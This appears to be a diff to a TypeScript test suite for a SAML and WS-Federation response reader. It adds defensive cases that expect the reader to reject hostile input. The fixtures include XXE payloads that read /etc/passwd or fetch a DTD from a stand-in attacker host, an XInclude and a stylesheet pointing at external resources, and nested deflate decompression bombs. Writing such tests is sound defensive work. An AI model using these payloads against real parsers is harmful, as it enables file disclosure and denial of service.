@@ -83,8 +83,46 @@ describe('what is broken or hostile costs little and reads nothing', () => {
     ['no base64', '<<>>', 'post', 'not-base64'],
     ['a stream that was cut', redirect(REQUEST).slice(0, 40), 'redirect', 'broken-deflate'],
     ['a megabyte', base64('x'.repeat(1_000_000)), 'post', 'too-large'],
+    [
+      'a parameter entity',
+      base64(`<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/x.dtd">%x;]>${REQUEST}`),
+      'post',
+      'doctype',
+    ],
+    [
+      'a bomb of stored blocks',
+      deflateRawSync(Buffer.alloc(300_000, 60), { level: 0 }).toString('base64'),
+      'redirect',
+      'too-large',
+    ],
+    ['a bomb of bombs', deflateRawSync(deflateRawSync(Buffer.alloc(50_000_000))).toString('base64'), 'redirect', 'not-xml'],
+    ['100 kB of one tag that never ends', base64(`<a ${'b="c" '.repeat(17_000)}`), 'post', 'not-xml'],
   ] as const)('%s', (_, value, how, note) => {
     expect(readSaml(value, how, 'SAMLResponse')?.notes).toEqual([note]);
+  });
+
+  it('an instruction or an element that names a file or a page leads nowhere', () => {
+    const elsewhere = response(
+      '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>',
+      '<?xml-stylesheet href="http://evil.example/x.xsl"?>',
+    );
+    expect(readSaml(base64(elsewhere), 'post', 'SAMLResponse')).toMatchObject({ issuer: 'https://idp.example', notes: [] });
+  });
+
+  it('an assertion of 100 kB, all of it attributes of the user, is read to its end and keeps none of them', () => {
+    const attributes = `<saml:Attribute><saml:AttributeValue>${'ann '.repeat(25_000)}</saml:AttributeValue></saml:Attribute>`;
+    const large = response().replace('</saml:Assertion>', `${attributes}</saml:Assertion>`);
+    const read = readSaml(base64(large), 'post', 'SAMLResponse');
+    expect(read).toMatchObject({ audience: 'https://app.example/metadata', notes: [] });
+    expect(JSON.stringify(read).length).toBeLessThan(1000);
+  });
+
+  it.each([
+    ['an entity', '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>', 'doctype'],
+    ['a megabyte', `<r>${'x'.repeat(1_000_000)}</r>`, 'too-large'],
+    ['base64', base64('<r/>'), 'not-xml'],
+  ])('%s in an answer of WS-Federation', (_, xml, note) => {
+    expect(readWsFederation(xml).notes).toEqual([note]);
   });
 
   it('never throws, whatever comes', () => {
